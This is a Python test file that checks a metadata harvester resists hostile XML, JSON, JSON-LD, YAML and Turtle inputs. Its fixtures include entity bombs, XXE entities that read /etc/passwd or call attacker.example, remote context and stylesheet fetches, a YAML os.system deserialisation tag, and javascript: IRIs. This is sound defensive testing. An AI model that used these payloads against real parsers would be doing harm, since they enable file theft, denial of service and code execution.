"""Documents that are made to harm whoever parses them: each becomes a harmless record or a clear problem, at once and without a call."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from kg.model import Native
from kg.processing import Processed
from tests.hostile.records import dcat, iso, stac

GOLDEN = Path(__file__).parents[1] / "golden"
Check = Callable[[Native], Processed]
Harvest = Callable[..., list[Native]]

pytestmark = pytest.mark.usefixtures("no_network")

BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    "<!ENTITY " + name + ' "' + f"&{before};" * 10 + '">' for before, name in zip("abcdefghij", "bcdefghijk", strict=True)
)

XML = {
    "entity bomb": (BILLION + "]>").encode() + iso(title="&k;"),
    "quadratic entity": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>' + iso(title="&a;" * 1000),
    "external entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + iso(title="&a;"),
    "external entity of the web": b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://attacker.example/">]>' + iso(title="&a;"),
    "parameter entity": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.example/"> %a;]>' + iso(),
    "undeclared entity": iso(title="&a;"),
    "deep": b"<a>" * 200_000,
    "deep and closed": b"<a>" * 20_000 + b"</a>" * 20_000,
    "an encoding that does not exist": b'<?xml version="1.0" encoding="x-none"?>' + iso(),
    "an encoding that it is not in": b'<?xml version="1.0" encoding="utf-16"?>' + iso(title="é"),
    "two encodings": iso(title="X").replace(b"X", "é".encode() + "é".encode("latin-1")),
    "a NUL": iso(title="a\0b"),
    "a NUL as a reference": iso(title="a&#0;b"),
    "a surrogate as a reference": iso(title="a&#xD800;b"),
    "a huge attribute": b'<a b="' + b"x" * 12_000_000 + b'"/>',
    "many attributes": ("<a " + " ".join(f"a{number}=''" for number in range(50_000)) + "/>").encode(),
    "many namespaces": ("<a " + " ".join(f"xmlns:a{number}='urn:{number}'" for number in range(20_000)) + "/>").encode(),
}


@pytest.mark.parametrize("name", XML)
def test_xml_that_attacks_is_a_problem(name: str, check: Check, natives: Harvest) -> None:
    started = time.process_time()
    found = [check(each) for each in natives(XML[name])]
    assert found and all(done.record is None and done.problems for done in found)
    assert time.process_time() - started < 5


def test_external_document_types_and_xinclude_are_not_followed(check: Check, natives: Harvest) -> None:
    typed = b'<!DOCTYPE gmd:MD_Metadata SYSTEM "http://attacker.example/x.dtd">' + iso()
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    sheet = b'<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>' + iso()
    for body in (typed, iso(title=include), sheet):
        for each in natives(body):
            done = check(each)
            assert done.record is not None and b"root:" not in done.record.triples


@pytest.mark.parametrize("opening", ["[", '{"a":', '{"type": "Collection", "links": [[', "- ", "a: {b: [", "[[[{"])
@pytest.mark.parametrize("media_type", ["application/json", "application/ld+json", "application/yaml"])
def test_what_is_nested_deeply_is_a_problem(opening: str, media_type: str, check: Check, natives: Harvest) -> None:
    for each in natives((opening * 100_000).encode(), "a.json", media_type):
        assert check(each).record is None


def test_json_that_is_nested_as_deeply_as_parsers_allow(check: Check, natives: Harvest) -> None:
    for key in ("title", "license", "extent", "providers", "summaries", "assets", "keywords"):
        for one, end in (("[", "]"), ('{"a":', "}"), ('{"value":[', "]}")):
            depth = 1000 // (1 + one.count("["))
            value = one * min(depth, 490) + "1" + end * min(depth, 490)
            body = stac().replace(b'"links":[]', f'"links":[],"{key}":{value}'.encode())
            for each in natives(body, "a.json"):
                check(each)


@pytest.mark.parametrize(
    ("one", "end"), [('{"type":"GeometryCollection","geometries":[', "]}"), ('{"type":"Feature","geometry":', "}"), ("[", "]")]
)
@pytest.mark.parametrize("before", ["", '{"type":"Polygon","coordinates":'])
def test_geometries_nested_as_deeply_as_parsers_allow(before: str, one: str, end: str, check: Check, natives: Harvest) -> None:
    depth = 490 if "[" in one and "{" in one else 980
    value = before + one * depth + "1" + end * depth + ("}" if before else "")
    item = '{"type":"Feature","stac_version":"1.0.0","id":"one","properties":{"datetime":"2020-01-01T00:00:00Z"},"links":[],"assets":{},'
    item += '"geometry":'
    (native,) = natives((item + value + "}").encode(), "a.json")
    done = check(native)
    assert done.record is not None and "place.invalid" in {each.code for each in done.problems}


TURTLE = {
    "a collection in collections": dcat("; dcat:keyword " + "(" * 50_000 + ")" * 50_000),
    "blank nodes in blank nodes": dcat("; dct:spatial " + "[ dct:spatial " * 50_000 + "[]" + "]" * 50_000),
    "a long list": dcat("; dcat:keyword (" + " ".join(f"'{number}'" for number in range(20_000)) + ")"),
    "a list without end": dcat("; dcat:keyword _:a . _:a <http://www.w3.org/1999/02/22-rdf-syntax-ns#rest> _:a"),
    "many prefixes": dcat("", "".join(f"@prefix p{number}: <https://example.org/{number}> .\n" for number in range(20_000))),
    "a long text": dcat('; dct:description "' + "a b " * 3_000_000 + '"'),
    "language tags that are none": dcat('; dct:description "a"@xx-notalanguagetag-at-all, "b"@123'),
    "lone surrogates": dcat('; dct:description "\\uD800"'),
    "an IRI with line ends": dcat("; dcat:landingPage <http://example.org/\\u000d\\u000aLink:a>"),
    "an IRI of a script": dcat("; dcat:landingPage <javascript:alert(1)> ; dct:license <data:text/html,a> ; dct:relation <vbscript:a>"),
    "types in a ring": dcat("; dct:isPartOf <https://example.org/one> ; dct:hasPart <https://example.org/one>"),
}


@pytest.mark.parametrize("name", TURTLE)
def test_turtle_that_attacks_does_nothing(name: str, check: Check, natives: Harvest) -> None:
    started = time.process_time()
    for each in natives(TURTLE[name], "a.ttl"):
        check(each)
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "context",
    ['"http://attacker.example/context"', '["https://schema.org/", "http://attacker.example/context"]'],
)
def test_contexts_are_not_fetched(context: str, check: Check, natives: Harvest) -> None:
    body = f'{{"@context": {context}, "@type": "Dataset", "@id": "https://example.org/one", "name": "A"}}'.encode()
    (native,) = natives(body, "a.jsonld")
    done = check(native)
    assert done.record is None and done.problems[0].code == "jsonld.remote-context"


def test_imports_of_contexts_are_not_fetched(check: Check, natives: Harvest) -> None:
    for context in (
        '{"@import": "http://attacker.example/c", "@version": 1.1}',
        '{"a": {"@id": "urn:a", "@context": "http://attacker.example/c"}}',
    ):
        for each in natives(f'{{"@context": {context}, "@type": "https://schema.org/Dataset", "a": {{"b": 1}}}}'.encode(), "a.jsonld"):
            assert check(each).problems


def test_aliases_of_yaml_do_not_multiply(check: Check, natives: Harvest) -> None:
    bomb = "mcf:\n  version: 1.0\na0: &a0 [x,x,x,x,x,x,x,x,x,x]\n"
    bomb += "".join(f"a{n + 1}: &a{n + 1} [{','.join([f'*a{n}'] * 10)}]\n" for n in range(12))
    for body in (bomb, "mcf: &a\n  version: *a\n", "mcf: !!python/object/apply:os.system ['true']\n", "mcf: {? [a] : b}\n"):
        for each in natives(body.encode(), "a.yml"):
            assert check(each).record is None


def _one_of_each_syntax() -> list[Path]:
    found = {path.suffix: path for path in sorted(GOLDEN.glob("*/*/in.*"), key=lambda each: each.stat().st_size)}
    return list(found.values())


@pytest.mark.parametrize("path", _one_of_each_syntax(), ids=lambda path: path.suffix)
def test_a_file_that_breaks_off_anywhere(path: Path, check: Check, natives: Harvest) -> None:
    body = path.read_bytes()
    for part in range(20):
        for each in natives(body[: len(body) * part // 20], path.name):
            check(each)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-7", "latin-1", "cp037"])
@pytest.mark.parametrize("path", _one_of_each_syntax(), ids=lambda path: path.suffix)
def test_a_file_in_another_encoding(path: Path, encoding: str, check: Check, natives: Harvest) -> None:
    body = path.read_text("utf-8").encode(encoding, "replace")
    for each in natives(body, path.name):
        check(each)
    for each in natives(body, path.name, "application/xml"):
        check(each)
